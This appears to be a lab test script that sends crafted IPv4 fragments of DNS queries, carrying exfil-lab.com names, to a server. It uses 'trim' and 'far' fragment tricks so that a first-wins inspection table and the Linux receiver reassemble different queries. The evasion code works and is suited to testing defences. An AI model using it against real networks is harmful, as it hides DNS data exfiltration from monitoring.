#!/usr/bin/python3
"""frag_linux.py SERVER - IPv4 fragments of DNS queries to SERVER:53 that a
Linux receiver reassembles otherwise than a first-wins table that ignores
two of its rules (scapy, raw IP from the lab's client; /usr/bin/python3 for
scapy; FINDINGS.md in this folder):
  1. trim: the head of a query in a fragment with more to come whose length
     is not a multiple of 8 (Linux cuts it to a multiple of 8 and keeps it),
     then the rest from that multiple of 8 on;
  2. far: the head of a decoy query, then 65 fragments from the same source
     to the same host of other datagrams that never complete (more than
     ipfrag_max_dist, 64: Linux starts the decoy's queue over at its next
     fragment), then the real query's head and the shared tail.
One packet at a time, 0.02-0.2 s apart."""
import os, sys, time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "review20", "dns"))
from frag import udp_bytes, frag  # noqa: E402  (review20's builders)
from scapy.all import send  # noqa: E402


def main():
    server = sys.argv[1]
    # 1. trim: [0, 37) with more to come (Linux keeps [0, 32)), then [32, end)
    u = udp_bytes(server, "trimmzxw6ytboi4dcnzrgezdgnbvgy3tqojq.f11.exfil-lab.com", 40011, 0x6111)
    send(frag(server, 0x7111, 0, u[:37], True))
    time.sleep(0.2)
    send(frag(server, 0x7111, 32, u[32:], False))
    time.sleep(0.5)
    # 2. far: decoy and real of the same length and tail, heads [0, 56)
    decoy = udp_bytes(server, "wwwwwwwwwwwwwwwwwwwwgezdgnbvgy3tqojq00.f12.exfil-lab.com", 40012, 0x6112)
    real = udp_bytes(server, "farmzxw6ytboi4dcnzrggezdgnbvgy3tqojq00.f12.exfil-lab.com", 40012, 0x6112)
    assert len(decoy) == len(real) and decoy[56:] == real[56:]
    send(frag(server, 0x7112, 0, decoy[:56], True))
    time.sleep(0.1)
    for i in range(65):
        # other datagrams' heads, to a closed port: never completed
        filler = udp_bytes(server, "x%02d.filler.example" % i, 50000 + i, 0x6200 + i)
        send(frag(server, 0x7200 + i, 0, filler[:24], True))
        time.sleep(0.02)
    send(frag(server, 0x7112, 0, real[:56], True))
    time.sleep(0.1)
    send(frag(server, 0x7112, 56, real[56:], False))
    time.sleep(0.5)


if __name__ == "__main__":
    main()
